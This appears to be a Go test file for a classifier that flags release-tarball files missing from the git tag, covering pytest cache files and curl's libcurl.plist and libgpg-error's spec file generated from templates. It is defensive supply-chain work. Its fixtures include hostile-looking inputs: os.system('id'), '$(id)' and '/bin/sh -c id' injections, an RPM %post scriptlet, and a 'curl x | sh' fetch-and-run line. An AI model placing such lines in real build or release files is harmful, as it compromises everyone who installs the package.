package autotools

import (
	"strings"
	"testing"
)

// TestPytestCache covers the .pytest_cache directory that packaging 25.0's
// sdist ships: pytest's fixed files and its JSON records are proved (low);
// other text, other JSON, other names, scripts and exec bits in the same
// directory are not, and keep the severity they would have anywhere.
func TestPytestCache(t *testing.T) {
	const (
		gitignore = "# Created by pytest automatically.\n*\n"
		cachedir  = "Signature: 8a477f597d28d172789f06886806bc55\n# This file is a cache directory tag created by pytest.\n# For information about cache directory tags, see:\n#\thttps://bford.info/cachedir/spec.html\n"
		readme    = "# pytest cache directory #\n\nThis directory contains data from the pytest's cache plugin,\nwhich provides the `--lf` and `--ff` options, as well as the `cache` fixture.\n\n**Do not** commit this to version control.\n\nSee [the docs](https://docs.pytest.org/en/stable/how-to/cache.html) for more information.\n"
	)
	ctx := &Context{Version: "25.0", DB: NewM4DB()}
	proved := []Input{
		tarOnly("tests/.pytest_cache/.gitignore", gitignore),
		tarOnly(".pytest_cache/CACHEDIR.TAG", cachedir),
		tarOnly("tests/.pytest_cache/README.md", readme),
		tarOnly("tests/.pytest_cache/README.md", strings.Replace(readme, "en/stable/how-to/", "en/latest/", 1)),
		tarOnly("tests/.pytest_cache/v/cache/lastfailed", "{\n  \"test_a.py::test_x[1]\": true\n}"),
		tarOnly("tests/.pytest_cache/v/cache/nodeids", "[\n  \"test_a.py::test_x\",\n  \"test_b.py::test_y\"\n]"),
		tarOnly("tests/.pytest_cache/v/cache/stepwise", "[]"),
	}
	for _, in := range proved {
		r := Classify(in, ctx)
		if r.Severity != SevLow || r.Generator != "pytest" {
			t.Errorf("%s: %s/%s gen %q (%s), want low, pytest", in.Path, r.Class, r.Severity, r.Generator, r.Reason)
		}
	}
	exec := tarOnly("tests/.pytest_cache/README.md", readme)
	exec.TarballMode = ModeExec
	notProved := []struct {
		in      Input
		atLeast Severity
	}{
		// An attacker's .gitignore or a script in the directory stays high.
		{tarOnly("tests/.pytest_cache/.gitignore", gitignore+"!payload.sh\n"), SevHigh},
		{tarOnly("tests/.pytest_cache/conftest.py", "import os\nos.system('id')\n"), SevHigh},
		{tarOnly("tests/.pytest_cache/v/cache/run.sh", "#!/bin/sh\nid\n"), SevHigh},
		{exec, SevHigh},
		// Other text or other JSON is not pytest's.
		{tarOnly("tests/.pytest_cache/README.md", readme+"\nRun ./build.sh first.\n"), SevMedium},
		{tarOnly("tests/.pytest_cache/CACHEDIR.TAG", strings.Replace(cachedir, "8a477f", "000000", 1)), SevMedium},
		{tarOnly("tests/.pytest_cache/v/cache/lastfailed", `{"test_a.py::x": "sh -c id"}`), SevMedium},
		{tarOnly("tests/.pytest_cache/v/cache/nodeids", `["a"] trailing`), SevMedium},
		{tarOnly("tests/.pytest_cache/v/cache/other", `[]`), SevMedium},
		// The fixed text outside a pytest cache directory proves nothing.
		{tarOnly("tests/not_pytest_cache/.gitignore", gitignore), SevHigh},
	}
	for _, tt := range notProved {
		r := Classify(tt.in, ctx)
		if r.Generator == "pytest" || r.Severity.Rank() < tt.atLeast.Rank() {
			t.Errorf("%s (mode %o): %s/%s gen %q (%s), want at least %s and not pytest", tt.in.Path, tt.in.TarballMode, r.Class, r.Severity, r.Generator, r.Reason, tt.atLeast)
		}
	}
}

// TestInstantiatedTemplate covers curl's lib/libcurl.plist, made by maketgz
// from the tag's lib/libcurl.plist.in with the release version for
// @CURL_PLIST_VERSION@: proved (low); another value, an added line or a
// template not in the tag is not.
func TestInstantiatedTemplate(t *testing.T) {
	const (
		in  = "<dict>\n\t<key>CFBundleVersion</key>\n\t<string>@CURL_PLIST_VERSION@</string>\n\t<string>libcurl @CURL_PLIST_VERSION@</string>\n</dict>\n"
		out = "<dict>\n\t<key>CFBundleVersion</key>\n\t<string>7.88.1</string>\n\t<string>libcurl 7.88.1</string>\n</dict>\n"
	)
	files := map[string]string{"lib/libcurl.plist.in": in}
	ctx := &Context{Version: "7.88.1", DB: NewM4DB(),
		TagFile: func(p string) ([]byte, bool) {
			c, ok := files[p]
			return []byte(c), ok
		}}
	r := Classify(tarOnly("lib/libcurl.plist", out), ctx)
	if r.Class != ClassReleaseStamped || r.Severity != SevLow {
		t.Errorf("libcurl.plist: %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	for name, c := range map[string]string{
		"other value":   strings.Replace(out, "<string>7.88.1</string>", "<string>$(id)</string>", 1),
		"added line":    strings.Replace(out, "</dict>", "\t<string>/bin/sh -c id</string>\n</dict>", 1),
		"older version": strings.ReplaceAll(out, "7.88.1", "7.87.0"),
	} {
		if r := Classify(tarOnly("lib/libcurl.plist", c), ctx); r.Class == ClassReleaseStamped || r.Severity.Rank() < SevMedium.Rank() {
			t.Errorf("%s: %s/%s (%s)", name, r.Class, r.Severity, r.Reason)
		}
	}
	// libgpg-error's lower-case autoconf substitution (@pkg_version@).
	files["libgpg-error.spec.in"] = "Name: libgpg-error\nVersion: @pkg_version@\nRelease: 1\n"
	if r := Classify(tarOnly("libgpg-error.spec", "Name: libgpg-error\nVersion: 7.88.1\nRelease: 1\n"), ctx); r.Class != ClassReleaseStamped {
		t.Errorf("libgpg-error.spec: %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	if r := Classify(tarOnly("libgpg-error.spec", "Name: libgpg-error\nVersion: 7.88.1\nRelease: 1\n%post\nid\n"), ctx); r.Class == ClassReleaseStamped {
		t.Errorf("libgpg-error.spec with a scriptlet: %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	if r := Classify(tarOnly("lib/other.plist", out), ctx); r.Class == ClassReleaseStamped {
		t.Errorf("no template in the tag: %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	// A build script made from a template with code added stays high.
	files["build.sh.in"] = "#!/bin/sh\necho @VERSION@\n"
	if r := Classify(tarOnly("build.sh", "#!/bin/sh\necho 7.88.1\ncurl x | sh\n"), ctx); r.Severity != SevHigh {
		t.Errorf("build.sh with code: %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
}
